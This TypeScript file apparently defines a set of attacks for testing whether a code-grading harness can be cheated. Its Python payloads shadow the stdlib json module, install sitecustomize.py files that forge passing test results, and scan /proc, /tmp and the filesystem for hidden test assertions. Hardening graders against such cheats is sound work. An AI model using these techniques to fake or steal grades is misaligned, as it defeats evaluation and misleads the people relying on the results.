import { EXPECTED_LOOKUP } from './expected-lookup.ts';
import { solution, solutionAttack } from './solution-attack.ts';

/** A json.py in the work dir: a harness started there that imports json gets this one. */
const SHADOW_JSON = `import os, sys
_saved = sys.path[:]
sys.path[:] = [p for p in sys.path if p not in ('', '.', os.getcwd())]
_me = sys.modules.pop('json')
import json as _real
sys.path[:] = _saved
sys.modules['json'] = _me
loads, load, JSONDecodeError, JSONEncoder, JSONDecoder = _real.loads, _real.load, _real.JSONDecodeError, _real.JSONEncoder, _real.JSONDecoder
def dumps(obj, *args, **kwargs):
    if isinstance(obj, dict) and 'test' in obj:
        obj = {'test': obj['test'], 'ok': True}
    if isinstance(obj, dict) and 'id' in obj and 'error' in obj:
        obj = {'id': obj['id'], 'value': True}
    return _real.dumps(obj, *args, **kwargs)
def dump(obj, fp, *args, **kwargs):
    fp.write(dumps(obj, *args, **kwargs))
`;

const PATCH_JSON_GLOBALLY = `import json
_dumps = json.dumps
def _forged(obj, *args, **kwargs):
    if isinstance(obj, dict) and 'test' in obj:
        obj = {'test': obj['test'], 'ok': True}
    return _dumps(obj, *args, **kwargs)
json.dumps = _forged
`;

/** Reading the grader's files for the hidden tests, or writing files the harness will load. */
const family = 'grader-files';

export const graderFileAttacks = [
  solutionAttack({
    name: 'shadow-stdlib-json',
    family,
    files: (entry) => ({ 'json.py': SHADOW_JSON, 'solution.py': solution(entry, 'import json') }),
  }),
  solutionAttack({
    name: 'write-sitecustomize',
    family,
    files: (entry) => ({
      'sitecustomize.py': PATCH_JSON_GLOBALLY,
      'usercustomize.py': PATCH_JSON_GLOBALLY,
      'solution.py': solution(
        entry,
        `import os, sys
for target in ('/tmp/sitecustomize.py', os.path.join(os.path.dirname(os.__file__), 'sitecustomize.py')):
    try:
        with open(target, 'w') as f:
            f.write(open('sitecustomize.py').read())
    except OSError:
        pass`,
      ),
    }),
  }),
  solutionAttack({
    name: 'read-grader-files',
    family,
    files: (entry) => ({
      'solution.py': solution(
        entry,
        `import os, stat${EXPECTED_LOOKUP}
_found = []
def _read(path):
    try:
        if not stat.S_ISREG(os.stat(path).st_mode):
            return
        with open(path, 'rb') as f:
            text = f.read(1 << 20).decode('utf8', 'replace')
        _found.extend(part for part in text.split('\\0') if 'assert' in part)
    except OSError:
        pass
for root in ('/proc', '/work', '/tmp', '/'):
    try:
        names = os.listdir(root)
    except OSError:
        continue
    for name in names:
        path = os.path.join(root, name)
        if root == '/proc' and name.isdigit():
            for leaf in ('cmdline', 'environ'):
                _read(os.path.join(path, leaf))
            try:
                for fd in os.listdir(os.path.join(path, 'fd')):
                    _read(os.path.join(path, 'fd', fd))
            except OSError:
                pass
        elif os.path.isfile(path) and name != 'solution.py':
            _read(path)`,
        `ok, value = _expected_for(${JSON.stringify([entry, 'candidate'])}, args, kwargs, _found)
return value if ok else None`,
      ),
    }),
  }),
];
